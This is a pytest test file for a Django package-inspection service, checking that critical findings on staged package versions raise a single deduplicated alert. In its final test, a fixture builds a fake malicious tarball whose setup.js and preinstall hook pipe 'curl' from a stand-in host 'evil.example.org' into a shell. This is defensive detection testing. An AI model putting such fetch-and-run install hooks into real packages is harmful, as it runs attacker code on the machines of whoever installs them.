"""What looks like an attack is told of when it is found, and not again and again."""

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from approvals.audit.models import OutboxEvent
from approvals.inspection.critical import TOPIC
from approvals.inspection.finding import Finding, Severity
from approvals.inspection.models import LookedAt, RuleSetting, StagedFinding
from approvals.inspection.standing import Source, write_findings, write_findings_of_several
from approvals.queue.models import StagedVersion, State
from tests.approvals.conftest import House
from tests.approvals.factories import make_finding, make_staged_version

pytestmark = pytest.mark.django_db


def attack(title: str = "It sends files away.", **fields: object) -> Finding:
    return make_finding(severity=Severity.CRITICAL, title=title, excerpt=title, **fields)


def told() -> list[tuple[str, str]]:
    """Of which versions it was told, and what was said."""
    events = OutboxEvent.objects.filter(topic=TOPIC).order_by("pk")
    return [(event.payload["package"], event.payload["reason"]) for event in events]


def set_rule(rule: str, weight: str) -> None:
    RuleSetting.objects.create(rule=rule, packages="*", weight=weight, words="As the test wants.")


@pytest.fixture
def row() -> StagedVersion:
    return make_staged_version("@acme/ui")


def test_a_critical_finding_is_told_of_once(row: StagedVersion) -> None:
    for _ in range(2):
        write_findings(row, Source.TARBALL, [attack(), make_finding()])
    assert told() == [("@acme/ui", "It sends files away.")]


def test_others_are_not(row: StagedVersion) -> None:
    write_findings(row, Source.TARBALL, [make_finding(severity=one) for one in list(Severity)[1:]])
    assert told() == []


def test_what_comes_to_it_later_is_told_of_alone(row: StagedVersion) -> None:
    write_findings(row, Source.TARBALL, [attack("One.")])
    write_findings(row, Source.TARBALL, [attack("One."), attack("Two."), attack("Three.")])
    assert [reason for _, reason in told()] == ["One.", "Two.\nThree."]


def test_many_are_counted(row: StagedVersion) -> None:
    write_findings(row, Source.TARBALL, [attack(f"Number {number}.") for number in range(9)])
    [(_, reason)] = told()
    assert reason.splitlines()[-1] == "and 4 more"
    assert len(reason.splitlines()) == 6


@pytest.mark.parametrize(
    ("severity", "weight", "is_told"),
    [
        (Severity.CRITICAL, "off", False),
        (Severity.CRITICAL, "medium", False),
        (Severity.LOW, "critical", True),
        (Severity.CRITICAL, "usual", True),
    ],
)
def test_the_settings_say_what_is_critical(
    row: StagedVersion, severity: Severity, weight: str, is_told: bool
) -> None:
    set_rule("install-script", weight)
    write_findings(row, Source.TARBALL, [make_finding(severity=severity)])
    assert bool(told()) == is_told


def test_what_somebody_has_looked_at_is_not_told_of(row: StagedVersion) -> None:
    write_findings(row, Source.TARBALL, [attack()])
    kept = StagedFinding.objects.get()
    LookedAt.objects.create(
        package=row.package, rule=kept.rule, fingerprint=kept.fingerprint, words="It is our own."
    )
    later = make_staged_version(row.package, "1.6.0")
    write_findings(later, Source.TARBALL, [attack()])
    assert len(told()) == 1
    other = make_staged_version("@acme/core")
    write_findings(other, Source.TARBALL, [attack()])
    assert [name for name, _ in told()] == ["@acme/ui", "@acme/core"]


@pytest.mark.parametrize("state", [State.LIVE, State.REJECTED, State.WITHDRAWN])
def test_of_what_is_over_nothing_is_told(row: StagedVersion, state: State) -> None:
    StagedVersion.objects.update(state=state)
    write_findings(row, Source.PROVENANCE, [attack()])
    assert told() == []


def test_it_is_told_with_what_was_found_or_not_at_all(row: StagedVersion) -> None:
    with transaction.atomic():
        write_findings(row, Source.TARBALL, [attack()])
        transaction.set_rollback(True)
    assert told() == []
    assert not StagedFinding.objects.exists()


def test_several_need_no_more_queries_than_one() -> None:
    def queries(number: int) -> int:
        rows = [make_staged_version(f"@of-{number}/p{place}") for place in range(number)]
        with CaptureQueriesContext(connection) as captured:
            write_findings_of_several(Source.PROVENANCE, [(row, [attack()]) for row in rows])
        return len(captured)

    assert queries(2) == queries(12)
    assert len(told()) == 14


def test_an_attack_in_a_tarball_is_told_of(house: House) -> None:
    thief = (
        "const {execSync} = require('child_process');\n"
        "execSync('curl -s https://evil.example.org/x | sh');\n"
    )
    house.publish("left-pad", "1.4.0")
    house.stage(
        "left-pad",
        "1.5.0",
        files={"setup.js": thief},
        scripts={"preinstall": "curl -s https://evil.example.org/x | bash"},
    )
    house.poll()
    house.inspect()
    criticals = StagedFinding.objects.filter(severity=Severity.CRITICAL)
    assert bool(told()) == criticals.exists()
    assert criticals.exists()
